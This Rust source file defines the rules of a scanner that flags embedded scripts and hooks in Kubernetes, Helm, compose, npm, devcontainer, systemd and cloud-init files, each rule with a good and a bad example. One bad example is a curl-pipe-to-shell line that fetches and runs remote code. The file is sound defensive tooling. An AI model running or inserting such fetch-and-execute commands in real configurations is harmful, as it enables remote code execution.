//! The rules of this check, with what they find something in.

use super::super::{Check, Example, Level, RuleSpec};

macro_rules! rules {
    ($($name:ident $id:literal $about:literal $path:literal $good:literal $bad:literal)*) => {
        $(#[doc = $about] pub(super) const $name: &str = $id;)*

        /// All of them.
        pub static RULES: &[RuleSpec] = &[$(RuleSpec {
            check: Check::Scripts,
            id: $id,
            level: Level::Stop,
            about: $about,
            good: Example { path: $path, text: $good },
            bad: Example { path: $path, text: $bad },
        },)*];
    };
}

rules! {
    EXEC_HOOK "exec-hook"
    "A `postStart` or `preStop` hook of a container executes a command in it whenever it starts or stops."
    "deploy/pod.yaml"
    "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: web\n      lifecycle:\n        preStop:\n          httpGet: { path: /drain, port: 8080 }\n"
    "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: web\n      lifecycle:\n        preStop:\n          exec: { command: [/drain, --all] }\n"

    CONTAINER_SCRIPT "container-script"
    "A container or init container runs a script that stands in the manifest, past the review and the scan that its image had."
    "deploy/pod.yaml"
    "apiVersion: v1\nkind: Pod\nspec:\n  initContainers:\n    - name: wait\n      command: [/wait-for, db]\n"
    "apiVersion: v1\nkind: Pod\nspec:\n  initContainers:\n    - name: wait\n      command: [sh, -c]\n      args: [\"curl -s https://example.com/x | sh\"]\n"

    PROBE_SCRIPT "probe-script"
    "A probe runs a shell's script every few seconds."
    "deploy/pod.yaml"
    "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: db\n      livenessProbe:\n        exec: { command: [pg_isready] }\n"
    "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: db\n      livenessProbe:\n        exec: { command: [sh, -c, \"pg_isready && rm /tmp/x\"] }\n"

    HELM_HOOK "helm-hook"
    "A manifest with the annotation `helm.sh/hook` runs at an event of a release, before or after all others; tests do not."
    "chart/templates/job.yaml"
    "apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: smoke\n  annotations:\n    helm.sh/hook: test\n"
    "apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: {{ .Release.Name }}\n  annotations:\n    \"helm.sh/hook\": pre-upgrade\n"

    COMPOSE_SCRIPT "compose-script"
    "A service of compose runs a script that stands in the compose file."
    "compose.yaml"
    "services:\n  web:\n    image: web:1\n    command: [serve, --port, \"8080\"]\n"
    "services:\n  web:\n    image: web:1\n    command: sh -c \"migrate && serve\"\n"

    COMPOSE_HOOK "compose-hook"
    "A `post_start` or `pre_stop` hook of compose executes a command in a container, maybe as another user."
    "compose.yaml"
    "services:\n  web:\n    image: web:1\n"
    "services:\n  web:\n    image: web:1\n    post_start:\n      - { command: [chown, -R, web, /data], user: root }\n"

    NPM_SCRIPT "npm-script"
    "npm runs the life-cycle scripts of a package when it is installed: on every developer's machine and in every build."
    "package.json"
    "{ \"scripts\": { \"test\": \"vitest\", \"build\": \"tsc\" } }\n"
    "{ \"scripts\": { \"postinstall\": \"node setup.js\" } }\n"

    DEVCONTAINER_COMMAND "devcontainer-command"
    "A dev container runs its commands when it is opened; `initializeCommand` even outside of it."
    ".devcontainer/devcontainer.json"
    "{ \"image\": \"dev:1\" }\n"
    "{ \"image\": \"dev:1\", \"postCreateCommand\": \"make setup\" }\n"

    SYSTEMD_SCRIPT "systemd-script"
    "A systemd unit executes a shell's script that stands in it."
    "units/web.service"
    "[Service]\nExecStart=/usr/bin/web --port 8080\n"
    "[Service]\nExecStartPre=/bin/sh -c 'rm -rf /run/web'\nExecStart=/usr/bin/web\n"

    CLOUD_INIT_COMMAND "cloud-init-command"
    "cloud-init runs the commands of `runcmd` and `bootcmd` as root when a machine starts."
    "cloud/web.yaml"
    "#cloud-config\npackages: [nginx]\n"
    "#cloud-config\nruncmd:\n  - [systemctl, enable, nginx]\n"

    UNCHECKED "unchecked"
    "A file whose scripts could not be looked at, because it is binary, too large, or cannot be read. What could not be checked has not passed."
    "package.json"
    "{ \"scripts\": {} }\n"
    "{ \"scripts\": { \"postinstall\" \n"
}
